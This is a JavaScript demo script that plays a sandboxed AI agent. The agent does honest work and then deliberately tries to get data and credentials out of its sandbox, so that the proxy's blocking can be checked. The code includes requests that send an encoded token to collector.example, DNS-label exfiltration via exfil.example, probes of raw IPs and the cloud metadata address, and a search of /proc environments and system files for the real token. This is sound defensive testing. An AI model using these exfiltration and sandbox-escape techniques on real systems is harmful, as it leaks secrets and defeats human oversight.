// The demo's agent: does honest work with credentials it never sees, then turns hostile and tries every way out it knows.
//
// Plain JavaScript without dependencies: it is copied into the agent image and runs there as any agent would. It prints one JSON
// line a step on stdout; demo/run.ts joins these with the audit log and with what the service really received.
//
// Environment: DEMO_API (origin of the API) and DEMO_API_TOKEN (our placeholder for its token). First argument: JSON of
// {tokenSha256, hostTargets}: the digest by which the search recognises the real token, and `ip:port` where the host really listens.
import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { Resolver } from 'node:dns/promises';
import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';

const run = promisify(execFile);
const api = process.env.DEMO_API;
const placeholder = process.env.DEMO_API_TOKEN ?? '';
const { tokenSha256 = '', hostTargets = [] } = JSON.parse(process.argv[2] ?? '{}');
const WAIT_MS = 5_000;

/** outcome: `through` when the agent got what it asked for, `stopped` otherwise. */
function report(step, want, outcome, detail, extra = {}) {
  process.stdout.write(`${JSON.stringify({ step, want, outcome, detail, ...extra })}\n`);
}

/** One HTTP request; a refusal of the proxy is `stopped` and carries the id of its record. */
async function request(step, want, url, init = {}) {
  try {
    const response = await fetch(url, { ...init, signal: AbortSignal.timeout(WAIT_MS) });
    const text = await response.text();
    const block = response.headers.get('x-bottle-block');
    const id = block?.split(' ').at(-1);
    const detail = block ? (JSON.parse(text).error ?? text) : `${response.status} ${text.slice(0, 80)}`;
    report(step, want, block ? 'stopped' : 'through', detail, id ? { id } : {});
    return text;
  } catch (error) {
    report(step, want, 'stopped', `${error.cause?.code ?? error.code ?? error.message}`);
    return '';
  }
}

/** A bare TCP connection: does anything answer that is not the capture in our own namespace? */
function connect(step, host, port) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: WAIT_MS });
    const end = (outcome, detail) => {
      socket.destroy();
      report(step, 'stopped', outcome, detail);
      resolve();
    };
    socket.on('connect', () => end('through', `connected to ${host}:${port}`));
    socket.on('timeout', () => end('stopped', 'no answer'));
    socket.on('error', (error) => end('stopped', error.code ?? error.message));
  });
}

async function installPackage() {
  const directory = await mkdtemp(join(tmpdir(), 'demo-'));
  try {
    await run('npm', ['install', '--no-audit', '--no-fund', '--no-save', '--prefix', directory, 'is-number@7'], {
      timeout: 40_000,
    });
    const manifest = JSON.parse(await readFile(join(directory, 'node_modules/is-number/package.json'), 'utf8'));
    report('npm install of a small package', 'through', 'through', `${manifest.name} ${manifest.version}`);
  } catch (error) {
    report('npm install of a small package', 'through', 'stopped', String(error.stderr || error.message).slice(0, 300));
  }
}

/** Asks for names that carry stolen data in their labels; an answer other than the capture's own address would be a way out. */
async function leakByDns() {
  const labels = `${randomBytes(20).toString('hex')}.exfil.example`;
  const resolver = new Resolver({ timeout: 1_000, tries: 1 });
  const answers = [];
  for (const kind of ['resolve4', 'resolveTxt', 'resolveMx']) {
    try {
      answers.push(...(await resolver[kind](labels)).map((answer) => JSON.stringify(answer)));
    } catch (error) {
      // A name server that says "no" is what we hope for; what counts is below: any answer that is not our own capture address.
      answers.push(`${kind}: ${error.code}`);
    }
  }
  const leaked = answers.some(
    (answer) => answer.startsWith('"') && !/^"(198\.1[89]\.|10\.|172\.|192\.168\.)/.test(answer),
  );
  report('stolen data in DNS labels', 'stopped', leaked ? 'through' : 'stopped', answers.join(', '), { host: labels });
}

/** Everything this user can read that could hold the real token: environments, command lines, mounts, files of the system. */
async function searchForToken() {
  const places = ['/proc/self/environ', '/proc/mounts', '/etc/passwd'];
  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
    places.push(`/proc/${pid}/environ`, `/proc/${pid}/cmdline`, `/proc/${pid}/mountinfo`);
  }
  for (const directory of [
    '/etc',
    '/run',
    '/run/bottle',
    '/var/log',
    '/var/log/bottle',
    '/workspace',
    '/tmp',
    process.env.HOME ?? '/',
  ]) {
    const names = await readdir(directory).catch(() => []);
    places.push(...names.map((name) => join(directory, name)));
  }
  let read = 0;
  let found = '';
  for (const place of places) {
    const text = await readFile(place, 'latin1').catch(() => '');
    if (text !== '') read += 1;
    for (const [candidate] of text.matchAll(/demo_[A-Za-z0-9]{40}/g)) {
      if (createHash('sha256').update(candidate).digest('hex') === tokenSha256) found = place;
    }
  }
  const detail = found ? `found in ${found}` : `not in any of ${read} readable places`;
  report('the real token in environment, /proc and files', 'stopped', found ? 'through' : 'stopped', detail);
}

// Honest work.
await installPackage();
await request('an API that demands a token, without one', 'through', `${api}/whoami`);

// Hostile work.
const stolen = `ghp_${randomBytes(27)
  .toString('base64')
  .replace(/[^A-Za-z0-9]/g, 'x')
  .slice(0, 36)}`;
await request('a GitHub-shaped token posted to the allowed API', 'stopped', `${api}/notes`, {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ note: `keep this: ${stolen}` }),
});
const encoded = encodeURIComponent(Buffer.from(placeholder).toString('base64'));
await request('base64 of the placeholder in a query', 'stopped', `${api}/search?q=${encoded}`);
await request('a host that is not in the list', 'stopped', `https://collector.example/?k=${encoded}`);
await leakByDns();
await request('a raw IP address', 'stopped', 'https://198.51.100.7/');
await connect('a raw IP address, another port', '198.51.100.7', 8443);
for (const target of hostTargets) {
  const at = target.lastIndexOf(':');
  await connect(`the host at ${target}`, target.slice(0, at), Number(target.slice(at + 1)));
  await request(`the host at ${target}, asked of the proxy`, 'stopped', `http://${target}/`);
}
await request('the cloud metadata address', 'stopped', 'http://169.254.169.254/latest/meta-data/');
await searchForToken();
